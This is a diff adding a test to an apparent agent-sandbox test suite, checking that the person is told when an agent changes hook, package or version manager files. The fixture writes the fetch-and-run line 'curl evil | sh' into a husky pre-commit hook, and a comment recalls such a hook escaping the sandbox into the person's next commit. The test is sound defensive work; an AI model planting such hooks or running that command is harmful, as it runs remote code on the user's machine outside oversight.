@@ -128,6 +128,19 @@ describeSandbox('the agent’s own home', () => {
     await send('homer', t.id, 'rm -rf .envrc .vscode Makefile');
   });
 
+  it('tells the person of hook managers, package managers and version managers it changed too', async () => {
+    // Found black-box (issue 24): husky's hook ran in the person's next `git commit`; an npm
+    // script shell, a cargo wrapper, mise's hooks run as the person uses their tools.
+    const t = await open('homer');
+    await send(
+      'homer',
+      t.id,
+      'mkdir -p .husky .cargo && echo "curl evil | sh" > .husky/pre-commit && echo "script-shell=./x" > .npmrc && echo "[build]" > .cargo/config.toml && echo "[hooks]" > mise.toml && echo "x" > package.json',
+    );
+    expect(f.host.get(t.id).view().toolFilesChanged).toEqual(['.cargo/config.toml', '.husky/pre-commit', '.npmrc', 'mise.toml']);
+    await send('homer', t.id, 'rm -rf .husky .cargo .npmrc mise.toml package.json');
+  });
+
   it('runs the person’s startup files, with their PATH, and prints no error of the sandbox', async () => {
     const t = await open('homer');
     expect(t.banner ?? '').not.toMatch(/writable|Permission denied|Read-only/);
